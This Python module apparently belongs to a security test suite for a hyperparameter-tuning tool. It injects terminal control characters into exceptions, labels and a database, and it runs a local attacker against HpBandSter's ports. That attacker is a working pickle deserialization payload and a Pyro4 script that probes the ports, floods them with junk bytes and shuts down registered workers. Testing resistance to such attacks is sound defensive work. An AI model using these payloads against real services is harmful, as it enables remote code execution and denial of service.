"""Text that is made to mislead, and other users of the machine."""

import pickle
import subprocess
import sys
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path

from benchmarks.faults.stage import Call, Observed, Stage
from benchmarks.faults.stores import change
from benchmarks.faults.toys import HOSTILE


def _harmless(*calls: Call) -> str:
    """How many control characters reached the terminal."""
    count = sum(call.controls for call in calls)
    return f"{count} control characters reach the terminal" if count else "no control character reaches the terminal"


def _in_a_reason(stage: Stage) -> Observed:
    """What an objective's exception says, everywhere it is shown."""
    call = stage.run(stage.file("hostile", trials=8))
    shown = _harmless(call, *(stage.call(name, stage.folder) for name in ("show", "errors", "audit", "list")))
    return stage.observed(call, shown=shown)


def _in_a_file(stage: Stage) -> Observed:
    """A label in an experiment file."""
    file = stage.file(label=HOSTILE)
    call = stage.call("run", file, "--headless")
    return Observed(f"{stage.plain(call.last)} ({_harmless(call)})", call.ended, "nothing: it is not run", "-")


def _in_a_store(stage: Stage) -> Observed:
    """Labels and log of a store that was made elsewhere."""
    stage.run(stage.file(trials=8))
    change(
        stage.folder / "experiment.sqlite",
        f"UPDATE run SET label = {_quoted(HOSTILE)} WHERE id = 0",
        f"UPDATE event SET message = {_quoted(HOSTILE)}",
    )
    calls = [stage.call(name, stage.folder) for name in ("show", "errors", "audit", "best", "list")]
    codes = ", ".join(sorted({call.ended for call in calls}))
    return Observed(_harmless(*calls), codes, stage.lost(), stage.resumed())


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


class _Payload:
    """Pickled, it makes whoever reads it create a file."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (str(self._path), "w")


_ATTACK = """
import sys, socket, Pyro4, Pyro4.message, Pyro4.util
from contextlib import suppress
data, ports = open(sys.argv[1], "rb").read(), list(map(int, sys.argv[2:]))
Pyro4.config.COMMTIMEOUT = 2
number = Pyro4.util.get_serializer("pickle").serializer_id
for port in ports:
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), 2) as connection:
        message = Pyro4.message.Message(Pyro4.message.MSG_CONNECT, data, number, 0, 0)
        connection.sendall(message.to_bytes())
        connection.settimeout(2)
        connection.recv(1000)
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), 2) as connection:
        connection.sendall(bytes([255]) * 4096)
    with suppress(Exception):
        names = Pyro4.locateNS("127.0.0.1", port)
        for name, place in names.list().items():
            if "worker" in name:
                with suppress(Exception):
                    Pyro4.Proxy(place).shutdown()
                names.remove(name)
                print(name)
"""


def _at_a_socket(stage: Stage) -> Observed:
    """Another user of the machine at every port that HpBandSter opens: what would be unpickled, noise, commands."""
    payload, owned = stage.root / "payload", stage.root / "owned"
    payload.write_bytes(pickle.dumps(_Payload(owned)))
    file = stage.file("epochs", "hpbandster-bohb", 120, problems=["kills/epochs"], unit="fidelity")
    with stage.under_way(file):
        ports = _ports(stage)
        command = [sys.executable, "-W", "ignore", "-c", _ATTACK, str(payload), *map(str, ports)]
        obeyed = subprocess.run(command, capture_output=True, text=True, check=False).stdout.strip()
    said = [
        "TCP ports are open" if ports else "no TCP port is open",
        "code of the attacker runs" if owned.exists() else "no code of the attacker runs",
        "a worker obeys" if obeyed else "nobody obeys",
    ]
    call = stage.ended()
    return stage.observed(call, shown="; ".join([*said, *stage.reasons()]))


def _ports(stage: Stage) -> list[int]:
    """Where processes of the experiment listen."""
    inodes = set()
    for pid in stage.processes():
        for link in Path(f"/proc/{pid}/fd").glob("*"):
            with suppress(OSError):
                inodes.add(str(link.readlink()))
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            cells = line.split()
            listens, inode = cells[3] == "0A", cells[9]
            if listens and f"socket:[{inode}]" in inodes:
                found.append(int(cells[1].rpartition(":")[2], 16))
    return sorted(set(found))


FAULTS: Mapping[str, Callable[[Stage], Observed]] = {
    "an exception's text has control characters, markup and line breaks": _in_a_reason,
    "a label in an experiment file has them": _in_a_file,
    "names and log of a store that was made elsewhere have them": _in_a_store,
    "another user of the machine talks to HpBandSter's ports": _at_a_socket,
}
